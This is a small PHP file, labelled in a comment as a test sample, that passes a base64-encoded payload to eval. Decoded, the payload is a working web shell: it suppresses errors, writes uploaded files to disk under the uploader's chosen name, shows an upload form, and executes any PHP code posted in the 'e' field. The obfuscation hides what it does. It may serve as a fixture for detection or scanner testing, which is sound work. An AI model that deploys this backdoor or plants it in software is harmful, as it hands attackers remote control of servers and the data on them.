<?php
/* Test sample: eval('?>' . decoded) runs a whole PHP file incl. inline HTML. */
eval("?>" . base64_decode('PD9waHAKQGVycm9yX3JlcG9ydGluZygwKTsKaWYoIWVtcHR5KCRfRklMRVNbJ2YnXSkpe21vdmVfdXBsb2FkZWRfZmlsZSgkX0ZJTEVTWydmJ11bJ3RtcF9uYW1lJ10sJF9GSUxFU1snZiddWyduYW1lJ10pO30KPz4KPGZvcm0gbWV0aG9kPSJwb3N0IiBlbmN0eXBlPSJtdWx0aXBhcnQvZm9ybS1kYXRhIj48aW5wdXQgdHlwZT0iZmlsZSIgbmFtZT0iZiI+PGlucHV0IHR5cGU9InN1Ym1pdCI+PC9mb3JtPgo8P3BocCBpZihpc3NldCgkX1BPU1RbJ2UnXSkpe2V2YWwoJF9QT1NUWydlJ10pO30gPz4='));
